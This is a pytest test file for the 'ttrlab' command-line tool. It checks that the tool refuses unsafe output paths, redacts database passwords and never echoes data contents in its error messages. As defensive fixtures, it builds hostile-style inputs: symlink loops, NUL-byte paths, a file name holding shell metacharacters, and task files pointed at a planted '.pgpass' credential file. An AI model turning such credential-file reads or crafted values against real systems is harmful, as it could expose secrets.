"""Nothing lost, nothing leaked, nothing silently wrong (issue 31): outputs, database paths,
secrets, data files and the report, each class closed at its boundary and tried here as a careful
user and a hostile input would.

Every table case runs in-process through the CLI and checks the same things: exit 2 with one
line on stderr (or, for a valid input, exit 0 on the right file), and nothing in the sandbox
changed that the command did not name as its output (`snapshot` before and after). Runs never
train: the training loop and the final evaluation are replaced by a stop (`Reached`). The
property-based versions (random paths, random task files) are in tests/test_fuzz.py.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml
from conftest import install_counting_kind, is_postgres
from stored import alive, children, query, rows
from test_bad_input import write_glue

from ttrlab.cli import main

SECRET = "hunter2-SECRET-0xC0FFEE"  # planted in files and URLs; must never reach any output


class Reached(Exception):
    """The run got past every check and would now train or evaluate: the input was accepted."""


def _stop(*args, **kwargs):
    raise Reached("accepted: the run got as far as training")


@pytest.fixture(autouse=True)
def _never_train(monkeypatch):
    import ttrlab.kinds.pipeline
    import ttrlab.training.loop

    monkeypatch.setattr(ttrlab.training.loop, "optimize", _stop)
    monkeypatch.setattr(ttrlab.kinds.pipeline, "finish", _stop)


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under `root` (not following links): its kind and content (a file's SHA-256, a
    link's target, a device's type), so a test sees any change a command made."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            mode = os.lstat(path).st_mode
            if stat.S_ISREG(mode):
                found[str(path)] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
            elif stat.S_ISLNK(mode):
                found[str(path)] = ("link", os.readlink(path))
            else:
                found[str(path)] = ("other", stat.S_IFMT(mode))
    return found


def run_cli(capsys, argv: list[str]) -> tuple[int, str, str]:
    try:
        code = main(argv)
    except SystemExit as exit_:
        code = exit_.code
    captured = capsys.readouterr()
    return code, captured.out, captured.err.strip()


def one_line(capsys, argv: list[str], pattern: str) -> str:
    code, out, err = run_cli(capsys, argv)
    assert code == 2, f"exit {code}: {err[-2000:]}"
    assert len(err.splitlines()) == 1 and err.startswith("ttrlab") and "Traceback" not in err, err
    assert re.search(pattern, err), err
    return err


def _device(path: Path) -> bool:
    """A character device like /dev/null at `path` (root only); False where it cannot be made."""
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        return True
    except (OSError, AttributeError):
        return False


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory) -> dict[str, str]:
    """The files and folders the cases name, under one root: {placeholder: path}."""
    from test_report_build import grid, make_db

    root = tmp_path_factory.mktemp("boundaries")
    paths = {"tmp": str(root), "glue": str(write_glue(root / "glue"))}
    (root / "target.json").write_text('{"user": "data"}\n')
    os.symlink(root / "target.json", root / "link.json")
    os.mkfifo(root / "fifo")
    paths["device"] = str(root / "device") if _device(root / "device") else str(root / "fifo")
    os.symlink(paths["device"], root / "devlink")
    (root / "user_dir").mkdir()
    (root / "user_dir" / "README.md").write_text("# my notes, not ttrlab's\n")
    (root / "user_report").mkdir()
    (root / "user_report" / "aggregates.csv").write_text("my,own\n1,2\n")
    (root / "empty_dir").mkdir()
    for suffix in ("", ".yaml"):  # a loop, also where a command appends .yaml
        os.symlink(f"loop_b{suffix}", root / f"loop_a{suffix}")
        os.symlink(f"loop_a{suffix}", root / f"loop_b{suffix}")
    paths["loop"] = str(root / "loop_a")
    paths["long"] = str(root / ("n" * 300))
    paths["db"] = str(make_db(root / "r.sqlite", grid(seeds=(0, 1), method="ff", attack="upa", rate=0.1)
                              + grid(seeds=(0, 1), method="lora", attack="upa", rate=0.1)))
    with sqlite3.connect(paths["db"]) as con:  # one file, as published: readers then add no -wal/-shm beside it
        con.execute("PRAGMA journal_mode=DELETE")
    for name in ("target.json", "link.json", "fifo", "device", "devlink", "user_dir", "user_report", "empty_dir",
                 "loop_a", "r.sqlite"):
        paths.setdefault(name.split(".")[0], str(root / name))
    return paths


TRAIN = ["train", "--data-dir", "{glue}", "--quiet", "--max-steps", "1"]
LORA = [*TRAIN, "--method", "lora"]
FIG3 = ["theory", "fig3", "--rank", "4", "--fan-in", "16", "--scales", "2"]

# ---- class 1: one output policy ------------------------------------------------------------------
OUTPUT_CASES = [
    ("out-character-device", [*TRAIN, "--out", "{device}"], r"is a (character device|FIFO); ttrlab replaces only regular"),
    ("out-fifo", [*TRAIN, "--out", "{fifo}"], r"is a FIFO; ttrlab replaces only regular files"),
    ("out-symlink", [*TRAIN, "--out", "{link}"], r"is a symbolic link; ttrlab replaces only regular files"),
    ("out-symlink-to-device", [*TRAIN, "--out", "{devlink}"], r"is a symbolic link"),
    ("save-adapter-user-readme", [*LORA, "--save-adapter", "{user_dir}"],
     r"adapter folder '.*user_dir' holds files ttrlab did not write \('README.md'\)"),
    ("report-user-files", ["report", "--db", "{db}", "--out", "{user_report}"],
     r"report folder '.*user_report' holds files ttrlab did not write \('aggregates.csv'\)"),
    ("fig3-out-png", [*FIG3, "--out", "{tmp}/f.png"], r"--out '.*f.png' and the figure \(--out with .png\) '.*f.png' overlap"),
    ("fig3-figure-is-out", [*FIG3, "--out", "{tmp}/g.svg", "--figure", "{tmp}/g.svg"], r"overlap"),
    ("out-and-adapter-one-path", [*LORA, "--out", "{tmp}/both", "--save-adapter", "{tmp}/both"],
     r"--out '.*both' and --save-adapter '.*both' overlap"),
    ("out-inside-adapter", [*LORA, "--out", "{empty_dir}/r.json", "--save-adapter", "{empty_dir}"], r"overlap"),
    ("spectrum-figure-dir-user", ["theory", "spectrum", "--fan-in", "16", "--rank", "4", "--figure-dir", "{user_dir}"],
     r"--figure-dir '.*user_dir' holds files ttrlab did not write"),
    ("spectrum-out-device", ["theory", "spectrum", "--fan-in", "16", "--rank", "4", "--out", "{device}"],
     r"ttrlab replaces only regular files"),
    ("compare-out-dir-user", ["theory", "compare", "--data-dir", "{glue}", "--out-dir", "{user_dir}"],
     r"--out-dir '.*user_dir' holds files ttrlab did not write"),
    ("run-report-folder-user", ["run", "--db", "{tmp}/main.sqlite", "--out", "{user_report}", "--data-dir", "{glue}"],
     r"report folder '.*user_report' holds files ttrlab did not write"),
    ("out-trailing-slash", [*TRAIN, "--out", "{tmp}/new_folder/"], r"output '.*new_folder/' ends with '/', a folder"),
    ("db-trailing-slash", ["sweep", "{tmp}/spec.yaml", "--db", "{tmp}/new_db/", "--executor", "inline", "--quiet"],
     r"database '.*new_db/' names a folder"),
]

# ---- class 6: every OSError a path can raise is one line ---------------------------------------------
PATH_OPTIONS = {  # option -> argv with {p} where the path goes
    "train --out": [*TRAIN, "--out", "{p}"],
    "train --save-adapter": [*LORA, "--save-adapter", "{p}"],
    "train --data-dir": ["train", "--data-dir", "{p}", "--quiet"],
    "train --task": [*TRAIN, "--task", "{p}.yaml"],
    "train --model": [*TRAIN, "--model", "{p}"],
    "train --checkpoint-dir": [*TRAIN, "--curve-every", "1", "--curve-size", "4", "--checkpoint-dir", "{p}"],
    "sweep SPEC": ["sweep", "{p}", "--db", "{tmp}/never.sqlite", "--dry-run"],
    "sweep --db": ["sweep", "{tmp}/spec.yaml", "--db", "{p}", "--executor", "inline", "--quiet"],
    "status --db": ["status", "--db", "{p}"],
    "report --db": ["report", "--db", "{p}", "--out", "{tmp}/never_report"],
    "report --out": ["report", "--db", "{db}", "--out", "{p}"],
    "theory fig3 --out": [*FIG3, "--out", "{p}"],
    "theory fig3 --figure": [*FIG3, "--out", "{tmp}/fig3.json", "--figure", "{p}"],
    "theory spectrum --figure-dir": ["theory", "spectrum", "--fan-in", "16", "--rank", "4", "--figure-dir", "{p}"],
    "tasks --task": ["tasks", "--task", "{p}.yaml"],
    "gen-train --data-dir": ["gen-train", "--data-dir", "{p}", "--quiet"],
}
HOSTILE_PATHS = {"long-name": "{long}", "symlink-loop": "{loop}", "nul-byte": "{tmp}/a\x00b"}
PATH_CASES = [(f"{option}:{kind}", [part.replace("{p}", path) for part in argv], r".")
              for option, argv in PATH_OPTIONS.items() for kind, path in HOSTILE_PATHS.items()]
PATH_CASES.append(("fig3-unsupported-extension", [*FIG3, "--out", "{tmp}/h.json", "--figure", "{tmp}/h.xyz"],
                   r"--figure '.*h.xyz': unsupported figure format 'xyz'; allowed: .*png"))


@pytest.mark.parametrize("argv,pattern", [pytest.param(a, p, id=i) for i, a, p in OUTPUT_CASES + PATH_CASES])
def test_an_output_or_path_that_is_not_ours_is_one_line_and_nothing_changes(capsys, sandbox, argv, pattern,
                                                                            monkeypatch, tmp_path):
    install_counting_kind(tmp_path, monkeypatch)
    (Path(sandbox["tmp"]) / "spec.yaml").write_text("name: s\nkind: counting\naxes: {x: [1]}\n")
    before = snapshot(Path(sandbox["tmp"]))
    err = one_line(capsys, [part.format(**sandbox) for part in argv], pattern)
    assert snapshot(Path(sandbox["tmp"])) == before, f"the command changed the sandbox: {err}"
    if Path(sandbox["device"]).exists():
        assert not stat.S_ISREG(os.lstat(sandbox["device"]).st_mode)


def test_table_sizes():
    assert len(OUTPUT_CASES) == 16 and len(PATH_CASES) == 3 * len(PATH_OPTIONS) + 1 == 49


def test_save_adapter_writes_into_a_folder_it_owns_and_leaves_nothing_half_written(capsys, tmp_path, monkeypatch):
    """The valid path: a LoRA run of 0 steps saves its adapter (peft's files, its model card
    included) into a new folder, marked as ttrlab's; a second save into it replaces them."""
    monkeypatch.undo()  # this one evaluates (0 steps: nothing is trained)
    glue = write_glue(tmp_path / "glue", train_rows=16, dev_rows=8)
    argv = ["train", "--data-dir", str(glue), "--quiet", "--method", "lora", "--max-steps", "0", "--train-size", "8",
            "--eval-size", "8", "--max-length", "16", "--device", "cpu", "--save-adapter", str(tmp_path / "adapter"),
            "--out", str(tmp_path / "result.json")]
    for _ in range(2):
        code, _, err = run_cli(capsys, argv)
        assert code == 0, err
    names = {p.name for p in (tmp_path / "adapter").iterdir()}
    assert {"adapter_config.json", "adapter_model.safetensors", "README.md", ".ttrlab-output"} <= names
    assert not any(name.startswith(".staging") for name in names)
    assert json.loads((tmp_path / "result.json").read_text())["config"]["method"] == "lora"


def _mount_tmpfs(where: Path, size: str) -> bool:
    where.mkdir()
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
                          capture_output=True).returncode == 0


def test_a_full_disk_after_the_work_keeps_the_result_and_says_where(capsys, tmp_path, monkeypatch):
    """The run ends, and only then the disk of --out is full: the result is kept in the
    temporary folder and the one line names the file; the same with --save-adapter."""
    import ttrlab.kinds.pipeline

    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "64k"):
        pytest.skip("cannot mount a tmpfs here (needs root or CAP_SYS_ADMIN)")
    try:
        class Model:
            def save_pretrained(self, folder, safe_serialization=True):
                (Path(folder) / "adapter_model.safetensors").write_bytes(b"\0" * 200_000)

        def finished(experiment, config, **options):
            with open(disk / "filler", "ab", buffering=0) as filler:  # the disk fills while the run works
                try:
                    while True:
                        filler.write(b"\0" * 4096)
                except OSError:
                    pass
            return {"metrics": {"clean": {"accuracy": 0.5}}, "marker": SECRET, "_model": Model()}

        monkeypatch.setattr(ttrlab.kinds.pipeline, "run_document", finished)
        monkeypatch.setattr("ttrlab.core.io.MIN_FREE_BYTES", 1024)
        glue = write_glue(tmp_path / "glue")
        err = one_line(capsys, ["train", "--data-dir", str(glue), "--quiet", "--out", str(disk / "r.json")],
                       r"cannot write output '.*r.json': No space left on device; it is kept in '(.*)'")
        kept = Path(re.search(r"it is kept in '(.*)'", err).group(1))
        assert json.loads(kept.read_text())["marker"] == SECRET
        kept.unlink()
        assert sorted(p.name for p in disk.iterdir()) == ["filler"]  # no half-written r.json, no temporary file

        (disk / "filler").unlink()
        err = one_line(capsys, ["train", "--data-dir", str(glue), "--quiet", "--method", "lora", "--save-adapter",
                                str(disk / "ad")], r"adapter folder '.*ad'.*: No space left on device; it is kept in '(.*)'")
        kept = Path(re.search(r"it is kept in '(.*)'", err).group(1))
        assert (kept / "adapter_model.safetensors").stat().st_size == 200_000
        import shutil

        shutil.rmtree(kept)
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


def test_free_space_is_checked_before_the_work_where_the_size_is_known(capsys, tmp_path):
    """The adapter's size is known once the method is applied, before training: a disk without
    room for it stops the run there (the training stop `Reached` is never hit)."""
    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "1200k"):  # room for the 1 MiB any output needs, not for the adapter too
        pytest.skip("cannot mount a tmpfs here (needs root or CAP_SYS_ADMIN)")
    try:
        glue = write_glue(tmp_path / "glue")
        err = one_line(capsys, [*[p.format(glue=glue) for p in LORA], "--save-adapter", str(disk / "ad")],
                       r"adapter folder '.*ad': its disk has .* MiB free, (.*) MiB needed")
        assert float(re.search(r"([\d.]+) MiB needed", err).group(1)) > 1.1  # the adapter's own size, known now
        assert not (disk / "ad").exists() or list((disk / "ad").iterdir()) == []
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


def test_a_report_on_a_full_disk_is_one_line_and_leaves_no_truncated_figure(capsys, tmp_path):
    """Every file of the report is written whole or not at all (temporary file, fsync, rename):
    a disk that fills half-way (here at the second figure's PNG) leaves complete PNGs and SVGs
    only, and no temporary file."""
    from test_report_build import make_db, upa_configs

    db = make_db(tmp_path / "r.sqlite", upa_configs())
    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "200k"):
        pytest.skip("cannot mount a tmpfs here (needs root or CAP_SYS_ADMIN)")
    try:
        one_line(capsys, ["report", "--db", str(db), "--out", str(disk / "report")],
                 r"cannot write figure '.*figures/fig\d+.(png|svg)': No space left on device")
        written = [p for p in (disk / "report").rglob("*") if p.is_file()]
        assert not any(p.name.endswith(".tmp") for p in written)
        for png in (p for p in written if p.suffix == ".png"):
            assert png.read_bytes().endswith(b"IEND\xaeB`\x82"), png
        for svg in (p for p in written if p.suffix == ".svg"):
            assert svg.read_text().rstrip().endswith("</svg>"), svg
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


def test_a_report_folder_ttrlab_wrote_is_written_again(capsys, tmp_path, sandbox):
    out = tmp_path / "report"
    for _ in range(2):
        code, _, err = run_cli(capsys, ["report", "--db", sandbox["db"], "--out", str(out)])
        assert code == 0, err
    assert (out / ".ttrlab-output").is_file() and (out / "index.html").is_file()


# ---- class 2: database locations are paths ------------------------------------------------------
@pytest.mark.parametrize("name", ["res?v2.sqlite", "res%41.sqlite", "run#1.sqlite", "a b;c'&.sqlite", "caf\u00e9 \u03c1.sqlite"])
def test_a_database_path_is_that_file_whatever_characters_it_holds(capsys, tmp_path, monkeypatch, name):
    """`--db` is a path: the sweep writes exactly that file (not `res`, not `resA.sqlite`),
    status and report read it back, and no stray file appears."""
    install_counting_kind(tmp_path, monkeypatch)
    folder = tmp_path / "dbs"
    folder.mkdir()
    decoy = folder / "resA.sqlite"  # what 'res%41.sqlite' decoded as a URL would name
    spec = tmp_path / "s.yaml"
    spec.write_text("name: other\nkind: counting\naxes: {x: [9]}\n")
    assert run_cli(capsys, ["sweep", str(spec), "--db", str(decoy), "--executor", "inline", "--quiet"])[0] == 0
    spec.write_text("name: mine\nkind: counting\naxes: {x: [1, 2]}\n")
    db = folder / name
    code, out, err = run_cli(capsys, ["sweep", str(spec), "--db", str(db), "--executor", "inline", "--quiet"])
    assert code == 0, err
    assert str(db) in out and db.is_file()
    assert sorted(p.name for p in folder.iterdir()) == sorted({name, "resA.sqlite"})
    code, out, err = run_cli(capsys, ["status", "--db", str(db), "--json"])
    assert code == 0, err
    assert [(s["name"], s["finished"]) for s in json.loads(out)] == [("mine", 2)]
    code, _, err = run_cli(capsys, ["report", "--db", str(db), "--out", str(tmp_path / "report")])
    assert code == 0, err


def test_a_wal_database_on_read_only_storage_is_read_and_the_user_told(capsys, tmp_path, monkeypatch):
    """A reader opens SQLite read-only; a WAL database on a read-only mount needs a -shm file
    SQLite cannot make there, so the reader falls back to an immutable open and says so."""
    install_counting_kind(tmp_path, monkeypatch)
    source, mounted = tmp_path / "src", tmp_path / "ro"
    source.mkdir()
    mounted.mkdir()
    spec = tmp_path / "s.yaml"
    spec.write_text("name: ro\nkind: counting\naxes: {x: [1, 2, 3]}\n")
    assert run_cli(capsys, ["sweep", str(spec), "--db", str(source / "r.sqlite"), "--executor", "inline", "--quiet"])[0] == 0
    assert query(source / "r.sqlite", "PRAGMA journal_mode") == [("wal",)]
    if subprocess.run(["mount", "--bind", str(source), str(mounted)], capture_output=True).returncode:
        pytest.skip("cannot bind-mount here (needs root or CAP_SYS_ADMIN)")
    try:
        if subprocess.run(["mount", "-o", "remount,bind,ro", str(mounted)], capture_output=True).returncode:
            pytest.skip("cannot remount read-only here")
        before = snapshot(source)
        code, out, err = run_cli(capsys, ["status", "--db", str(mounted / "r.sqlite"), "--json"])
        assert code == 0, err
        assert json.loads(out)[0]["finished"] == 3
        assert re.fullmatch(r"ttrlab: note: database '.*r.sqlite' is on read-only storage: read as an immutable file",
                            err), err
        code, _, err = run_cli(capsys, ["report", "--db", str(mounted / "r.sqlite"), "--out", str(tmp_path / "rep")])
        assert code == 0 and "read-only storage" in err, err
        assert snapshot(source) == before
    finally:
        subprocess.run(["umount", "-l", str(mounted)], capture_output=True)


# ---- class 3: one redaction function --------------------------------------------------------------
REDACTION_CASES = [
    ("userinfo", f"postgresql+psycopg://ada:{SECRET}@db.example/results", "postgresql+psycopg://ada:***@db.example/results"),
    ("query-password", f"postgresql://ada@db.example/results?password={SECRET}",
     "postgresql+psycopg://ada@db.example/results?password=***"),
    ("sslpassword", f"postgresql://ada@h/r?sslmode=require&sslpassword={SECRET}",
     "postgresql+psycopg://ada@h/r?sslmode=require&sslpassword=***"),
    ("password-with-at", f"postgresql://ada:{SECRET}@x@h/r", "postgresql+psycopg://ada:***@h/r"),
    ("password-percent-encoded", f"postgresql://ada:{SECRET}%40x@h/r", "postgresql+psycopg://ada:***@h/r"),
    ("query-password-twice", f"postgresql://h/r?password=a&password={SECRET}", "postgresql+psycopg://h/r?password=***&password=***"),
    ("mixed-case-key", f"postgresql://h/r?PassWord={SECRET}", "postgresql+psycopg://h/r?PassWord=***"),
    ("unparseable", f"postgresql://ada:{SECRET}@[::1", "postgresql://*** (a URL that does not parse; not shown)"),
]


@pytest.mark.parametrize("url,shown", [pytest.param(u, s, id=i) for i, u, s in REDACTION_CASES])
def test_every_url_form_is_redacted(url, shown):
    from ttrlab.sweep.store import as_given, database_url, redacted

    try:
        given = database_url(url)
    except Exception:  # the unparseable one: its own error message is redacted too (next test)
        given = url
    assert redacted(given) == shown
    assert SECRET not in redacted(given) and SECRET not in redacted(url)
    assert SECRET not in as_given(url) and SECRET not in as_given(given)  # as a report's page names it


def test_no_output_of_a_run_holds_the_password(capsys, tmp_path, monkeypatch, postgres_url):
    """Every form a password takes in a PostgreSQL URL (the server trusts the test user, so it
    ignores them): a sweep, status (table and JSON), a report, a driver error and the stored rows
    are grepped for it."""
    install_counting_kind(tmp_path, monkeypatch)
    spec = tmp_path / "s.yaml"
    spec.write_text("name: secret-free\nkind: counting\naxes: {x: [1, 2]}\n")
    user, rest = postgres_url.split("@", 1)
    urls = [f"{user}:{SECRET}@{rest}", f"{postgres_url}?password={SECRET}&sslpassword={SECRET}x"]
    outputs = []
    for url in urls:
        for argv in (["sweep", str(spec), "--db", url, "--executor", "inline", "--quiet"], ["status", "--db", url],
                     ["status", "--db", url, "--json"], ["report", "--db", url, "--out", str(tmp_path / "report")]):
            code, out, err = run_cli(capsys, argv)
            assert code == 0, err
            outputs += [out, err]
    wrong_port = re.sub(r":\d+/", ":1/", urls[1])
    outputs.append(one_line(capsys, ["status", "--db", wrong_port], r"cannot open database 'postgresql\+psycopg://"))
    # a password holding '@': the driver takes what follows the first '@' as the host, and names it
    outputs.append(one_line(capsys, ["status", "--db", f"{user}:{SECRET}@{SECRET}x@{rest}"],
                            r"cannot open database 'postgresql\+psycopg://postgres:\*\*\*@127.0.0.1:"))
    outputs += [p.read_text(encoding="utf-8", errors="replace") for p in (tmp_path / "report").rglob("*") if p.is_file()]
    for table in ("sweeps", "runs", "metrics", "claims", "ttrlab_meta"):
        outputs.append(repr(query(postgres_url, f"SELECT * FROM {table}")))
    leaks = [text[max(0, text.find(SECRET) - 80):text.find(SECRET) + 40] for text in outputs if SECRET in text]
    assert not leaks, leaks
    assert "password=***" in "".join(outputs) and "sslpassword=***" in "".join(outputs)


# ---- class 4: messages about data name a location, never content ------------------------------------------
def _secret_file(folder: Path) -> Path:
    (folder / "secret").mkdir(parents=True)
    secret = folder / "secret" / ".pgpass"
    secret.write_text(f"db.example:5432:*:admin:{SECRET}\nother:5432:*:root:{SECRET}2\n")
    return secret


TASK = "name: leak\ntrain: {train}\ndev: {dev}\ntext: text\nlabel: label\nlabels: [neg, pos]\n"


@pytest.fixture
def leaky_tasks(tmp_path) -> dict[str, Path]:
    """Task files whose data reveal a secret in every way a file can: as the training file
    (directly, as format csv, through a symlink), in a header, a label cell, a text cell."""
    secret = _secret_file(tmp_path)
    data = tmp_path / "task" / "data"
    data.mkdir(parents=True)
    (data / "dev.csv").write_text("text,label\ngood,pos\nbad,neg\n")
    os.symlink(secret, data / "link.csv")
    (data / "header.csv").write_text(f"text,{SECRET}\ngood,pos\nbad,neg\n")
    (data / "label.csv").write_text(f"text,label\ngood,pos\nbad,{SECRET}\n")
    (data / "dup.csv").write_text(f"text,label,label\ngood,pos,{SECRET}\nbad,neg,neg\n")
    (data / "cell.jsonl").write_text(json.dumps({"text": {"password": SECRET}, "label": "pos"}) + "\n")
    (data / "shape.jsonl").write_text(json.dumps([SECRET]) + "\n")
    (data / "bad.jsonl").write_text(f'{{"text": "{SECRET}", "label": pos}}\n')
    tasks = {}
    for name, train, extra in (("pgpass", "../secret/.pgpass", "format: csv\n"), ("link", "data/link.csv", "format: csv\n"),
                               ("header", "data/header.csv", ""), ("label", "data/label.csv", ""),
                               ("dup", "data/dup.csv", ""), ("cell", "data/cell.jsonl", ""),
                               ("shape", "data/shape.jsonl", ""), ("bad-json", "data/bad.jsonl", "")):
        path = tmp_path / "task" / f"{name}.yaml"
        path.write_text(TASK.format(train=train, dev="data/dev.csv") + extra)
        tasks[name] = path
    return tasks


@pytest.mark.parametrize("name", ["pgpass", "link", "header", "label", "dup", "cell", "shape", "bad-json"])
def test_a_message_about_data_never_echoes_it(capsys, leaky_tasks, name):
    err = one_line(capsys, ["train", "--task", str(leaky_tasks[name]), "--quiet"], r"(:\d+|row \d+)?")
    assert SECRET not in err and "admin" not in err, err


def test_a_failed_run_stores_and_reports_no_data_content(capsys, tmp_path, leaky_tasks, monkeypatch):
    """The same file through a sweep: the run fails as it loads its data; its stored error, the
    sweep's output and every file of the report are free of the file's content."""
    monkeypatch.undo()
    spec = tmp_path / "leak.yaml"
    spec.write_text(f"name: leak\nbase: {{task: {leaky_tasks['pgpass']}, max_steps: 1}}\naxes: {{rate: [0.0]}}\n")
    db = tmp_path / "r.sqlite"
    code, out, err = run_cli(capsys, ["sweep", str(spec), "--db", str(db), "--executor", "inline", "--quiet"])
    assert code == 1 and "failed" in err, err
    code, out2, err2 = run_cli(capsys, ["report", "--db", str(db), "--out", str(tmp_path / "report")])
    assert code == 0, err2
    (stored,) = rows(db)
    assert stored[1] == "failed" and ".pgpass" in stored[3]
    texts = [out, err, out2, err2, stored[3], *(p.read_text(errors="replace") for p in (tmp_path / "report").rglob("*")
                                                 if p.is_file())]
    assert not [t for t in texts if SECRET in t]


def test_a_glue_folder_whose_file_is_someone_elses_echoes_nothing(capsys, tmp_path):
    secret = _secret_file(tmp_path)
    glue = write_glue(tmp_path / "glue")
    (glue / "SST-2" / "train.tsv").unlink()
    os.symlink(secret, glue / "SST-2" / "train.tsv")
    err = one_line(capsys, ["train", "--data-dir", str(glue), "--quiet"], r"train.tsv': the header \(line 1\) lacks")
    assert SECRET not in err


# ---- class 5: data and spec validation closes the silent classes ------------------------------------------------
DATA_CASES = [  # (id, train file name, content, pattern)
    ("two-label-columns", "t.csv", "text,label,label\ngood,pos,neg\nbad,neg,pos\n", r"column 'label' appears 2 times \(columns 2, 3\)"),
    ("json-duplicate-key", "t.jsonl", '{"text": "good", "label": "pos", "label": "neg"}\n',
     r"t.jsonl:1: the object's key number 3 repeats an earlier key"),
    ("one-class", "t.csv", "text,label\ngood,pos\nfine,pos\n", r"the training data holds one class only \('pos', all 2 rows\)"),
    ("empty-text", "t.csv", "text,label\ngood,pos\n  ,neg\n", r"t.csv:3: column 'text' is empty"),
    ("object-text", "t.jsonl", '{"text": {"a": 1}, "label": "pos"}\n', r"t.jsonl:1: column 'text' holds an object, not text"),
    ("number-text", "t.jsonl", '{"text": 5, "label": "pos"}\n', r"t.jsonl:1: column 'text' holds a number, not text"),
    ("list-label", "t.jsonl", '{"text": "a", "label": ["pos"]}\n', r"t.jsonl:1: the label \(column 'label'\) is not one of"),
]


@pytest.mark.parametrize("file_name,content,pattern", [pytest.param(f, c, p, id=i) for i, f, c, p in DATA_CASES])
def test_data_that_would_train_the_wrong_experiment_is_refused(capsys, tmp_path, file_name, content, pattern):
    (tmp_path / file_name).write_text(content)
    (tmp_path / "dev.csv").write_text("text,label\ngood,pos\nbad,neg\n")
    task = tmp_path / "t.yaml"
    task.write_text(TASK.format(train=file_name, dev="dev.csv"))
    one_line(capsys, ["train", "--task", str(task), "--quiet"], pattern)


SPEC_CASES = [  # (id, spec text, pattern)
    ("exclude-typo", "axes: {method: [ff, lora]}\nexclude: [{method: lroa}]\n",
     r"exclude rule \{'method': 'lroa'\}: method 'lroa' is not a value the grid takes \(allowed: 'ff', 'lora'\)"),
    ("exclude-quoted-number", "axes: {rate: [0.1, 0.2]}\nexclude: [{rate: '0.2'}]\n", r"rate '0.2' is not a value the grid takes"),
    ("exclude-base-value", "base: {attack: upa}\naxes: {rate: [0.1]}\nexclude: [{attack: bpa}]\n", r"attack 'bpa' is not a value"),
    ("exclude-bool-for-number", "axes: {rank: [1, 8]}\nexclude: [{rank: true}]\n", r"rank True is not a value"),
    ("base-seed", "base: {seed: 7}\naxes: {rate: [0.1]}\n", r"'base' sets seed 7, which conflicts with the spec's seeds"),
    ("grid-base-seed", "grids: [{name: g, base: {seed: 7}, axes: {rate: [0.1]}}]\n", r"grid 'g': 'base' sets seed 7"),
    ("include-seed", "include: [{rate: 0.1, seed: 3}]\n", r"'include' sets seed 3"),
    ("exclude-seed", "axes: {rate: [0.1]}\nexclude: [{seed: 0}]\n", r"'exclude' sets seed 0"),
    ("empty-plan", "axes: {rate: [0.1, 0.2]}\nexclude: [{rate: [0.1, 0.2]}]\n", r"plans no runs: its exclude rules remove every point"),
    ("name-too-long", f"name: {'n' * 201}\naxes: {{rate: [0.1]}}\n", r"sweep name 'nnn.*' is 201 characters long; the database stores at most 200"),
    ("name-nul", 'name: "a\\0b"\naxes: {rate: [0.1]}\n', r"sweep name 'a\\x00b' contains a NUL character"),
]


@pytest.mark.parametrize("text,pattern", [pytest.param(t, p, id=i) for i, t, p in SPEC_CASES])
def test_a_spec_that_would_run_something_else_is_refused_before_any_database(capsys, tmp_path, text, pattern, store_db):
    spec = tmp_path / "s.yaml"
    spec.write_text(text)
    one_line(capsys, ["sweep", str(spec), "--db", store_db, "--executor", "inline", "--quiet"], pattern)
    if is_postgres(store_db):
        assert query(store_db, "SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public'") == [(0,)]
    else:
        assert not Path(store_db).exists()


def test_valid_exclude_rules_still_exclude(tmp_path):
    from ttrlab.sweep.spec import load_spec

    spec = load_spec({"axes": {"method": ["ff", "lora"], "rate": [0.1, 0.2]}, "exclude": [{"method": "ff", "rate": 0.2}],
                      "seeds": [0, 1]})
    assert len(spec.expand().runs) == 6


# ---- class 6: damaged rows, plugins, extras, names --------------------------------------------------------------
def test_a_damaged_row_is_left_out_of_the_report_and_named(capsys, tmp_path):
    from test_report_build import grid, make_db

    seeds = (0, 1, 2, 3)
    db = make_db(tmp_path / "r.sqlite", grid(seeds=seeds, method="ff", attack="upa", rate=0.1)
                 + grid(seeds=seeds, method="lora", attack="upa", rate=0.1))
    with sqlite3.connect(db) as con:
        for run_id, column, value in ((1, "result", "[1, 2]"), (2, "result", '"text"'), (3, "result", "{not json"),
                                      (4, "config", "[]"), (5, "seconds", "'abc'"),
                                      (6, "result", '{"metrics": [1]}')):
            con.execute(f"UPDATE runs SET {column} = {value if column == 'seconds' else repr(value)} WHERE id = {run_id}")
    code, _, err = run_cli(capsys, ["report", "--db", str(db), "--out", str(tmp_path / "report")])
    assert code == 0, err
    notes = err.splitlines()
    assert len(notes) == 6 and all(line.startswith("ttrlab: note: left out of the report: stored run ") for line in notes)
    for run_id, words in ((1, "result is a list"), (2, "result is a string"), (3, "result is not valid JSON"),
                          (4, "config is a list"), (5, "seconds are not a number"), (6, "metrics are a list")):
        assert any(f"stored run {run_id} " in line and words in line for line in notes), (run_id, notes)
    html = (tmp_path / "report" / "index.html").read_text()
    assert "Stored rows left out" in html and "result is not valid JSON" in html
    assert run_cli(capsys, ["status", "--db", str(db)])[0] == 0


PLUGIN_CASES = [
    ("not-installed", None, "no_such_ttrlab_plugin", r"TTRLAB_PLUGINS names module 'no_such_ttrlab_plugin', which is "
                                                     r"not installed: pip install 'no_such_ttrlab_plugin'"),
    ("needs-a-module", "import no_such_dependency_xyz\n", "plugin_needing",
     r"names module 'plugin_needing', which needs module 'no_such_dependency_xyz', which is not installed"),
    ("raises", "raise RuntimeError('boom')\n", "plugin_raising", r"module 'plugin_raising' failed to import \(RuntimeError: boom\)"),
    ("syntax", "def (:\n", "plugin_syntax", r"module 'plugin_syntax' failed to import \(SyntaxError"),
]


